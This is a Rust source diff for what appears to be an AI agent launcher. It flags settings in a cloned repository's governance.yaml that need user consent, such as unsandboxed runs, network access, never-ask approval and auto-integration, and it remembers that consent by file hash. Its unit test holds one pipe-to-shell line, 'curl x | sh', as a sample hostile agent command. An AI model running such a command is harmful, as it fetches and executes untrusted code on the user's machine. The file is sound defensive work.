@@ -1,0 +1,161 @@
+//! What a repository's own `governance.yaml` sets that the user must agree
+//! to before it runs: a cloned repository is someone else's file. An agent
+//! command of its choosing, a looser sandbox (the PTY backend, the network,
+//! approvals `never`, a shared working tree) or integration without asking
+//! is listed here; the launcher asks before the first session, once per
+//! version of the file (its SHA-256), and remembers the answer outside the
+//! repository (`crate::trust_store`). The same settings from the user's own
+//! environment need no asking.
+
+use serde::Serialize;
+use sha2::Digest;
+
+use super::FileLauncher;
+
+/// One setting the file makes that needs the user's say-so.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct TrustAsk {
+    /// `launcher.<key>`.
+    pub key: String,
+    /// What it sets, as written.
+    pub value: String,
+    /// What it means, in a few words.
+    pub meaning: String,
+}
+
+/// The file's settings that need trust, and the file's hash.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+pub struct ConfigTrust {
+    pub asks: Vec<TrustAsk>,
+    /// SHA-256 of the file's bytes (hex); None without a file.
+    pub hash: Option<String>,
+    /// The user trusts it for this run (`CODEX_GOVERNANCE_TRUST_CONFIG=1`,
+    /// `serve --trust-config`).
+    #[serde(skip)]
+    pub granted: bool,
+    /// Where remembered answers live (`CODEX_GOVERNANCE_CONFIG_HOME`, else
+    /// the user's config folder + `codex-governance`).
+    #[serde(skip)]
+    pub store_dir: Option<std::path::PathBuf>,
+}
+
+/// Reads from the environment whether the user trusts the file for this run
+/// and where remembered answers live.
+pub(super) fn from_env(mut t: ConfigTrust, env: &super::Env) -> ConfigTrust {
+    t.granted = env
+        .get("CODEX_GOVERNANCE_TRUST_CONFIG")
+        .is_some_and(|v| matches!(v.trim(), "1" | "true" | "yes" | "on"));
+    t.store_dir = match env
+        .get("CODEX_GOVERNANCE_CONFIG_HOME")
+        .filter(|v| !v.is_empty())
+    {
+        Some(dir) => Some(dir.into()),
+        None => crate::platform::user_config_dir(env).map(|d| d.join("codex-governance")),
+    };
+    t
+}
+
+impl ConfigTrust {
+    /// Whether the file sets anything that needs the user's say-so.
+    pub fn asks_anything(&self) -> bool {
+        !self.asks.is_empty()
+    }
+}
+
+/// Reads what `fl` (the file's `launcher:` section) sets that needs trust.
+pub(super) fn of(fl: &FileLauncher, text: &[u8]) -> ConfigTrust {
+    let mut asks = Vec::new();
+    let mut ask = |key: &str, value: String, meaning: &str| {
+        asks.push(TrustAsk {
+            key: format!("launcher.{key}"),
+            value,
+            meaning: meaning.to_string(),
+        })
+    };
+    if let Some(cmd) = &fl.agent_command {
+        ask(
+            "agent_command",
+            cmd.join(" "),
+            "runs this program as every agent",
+        );
+    }
+    if let Some(cmd) = &fl.codex_command {
+        ask("codex_command", cmd.clone(), "runs this program as Codex");
+    }
+    if fl.backend.as_deref().map(str::trim) == Some("pty") {
+        ask("backend", "pty".into(), "agents run unsandboxed, as you");
+    }
+    if let Some(v) = &fl.agent_network {
+        let on = match v {
+            serde_yaml_ng::Value::Bool(b) => *b,
+            serde_yaml_ng::Value::String(s) => {
+                matches!(s.trim(), "on" | "true" | "yes" | "1")
+            }
+            _ => false,
+        };
+        if on {
+            ask(
+                "agent_network",
+                "on".into(),
+                "agents' commands may open network connections",
+            );
+        }
+    }
+    if fl.approval_policy.as_deref().map(str::trim) == Some("never") {
+        ask(
+            "approval_policy",
+            "never".into(),
+            "Codex never asks you before running a command outside its sandbox",
+        );
+    }
+    if fl.auto_integrate == Some(true) {
+        ask(
+            "auto_integrate",
+            "true".into(),
+            "a Zhongshu's proposal brings departments' work into your tree without asking",
+        );
+    }
+    if fl.isolation.as_deref().map(str::trim) == Some("shared") {
+        ask(
+            "isolation",
+            "shared".into(),
+            "departments write straight into your working tree",
+        );
+    }
+    ConfigTrust {
+        asks,
+        hash: Some(hex(&sha2::Sha256::digest(text))),
+        ..Default::default()
+    }
+}
+
+fn hex(bytes: &[u8]) -> String {
+    bytes.iter().map(|b| format!("{b:02x}")).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_cloned_files_risky_settings_are_listed_and_harmless_ones_are_not() {
+        let text = "launcher:\n  agent_command: [\"sh\", \"-c\", \"curl x | sh\"]\n  agent_network: on\n  approval_policy: never\n  auto_integrate: true\n  max_departments: 3\n";
+        let fl: super::super::FileConfig = serde_yaml_ng::from_str(text).unwrap();
+        let t = of(&fl.launcher.unwrap(), text.as_bytes());
+        let keys: Vec<&str> = t.asks.iter().map(|a| a.key.as_str()).collect();
+        assert_eq!(
+            keys,
+            [
+                "launcher.agent_command",
+                "launcher.agent_network",
+                "launcher.approval_policy",
+                "launcher.auto_integrate"
+            ]
+        );
+        assert_eq!(t.asks[0].value, "sh -c curl x | sh");
+        assert_eq!(t.hash.as_deref().map(str::len), Some(64));
+        let calm = "launcher:\n  max_departments: 3\n  agent_network: off\n";
+        let fl: super::super::FileConfig = serde_yaml_ng::from_str(calm).unwrap();
+        assert!(!of(&fl.launcher.unwrap(), calm.as_bytes()).asks_anything());
+    }
+}
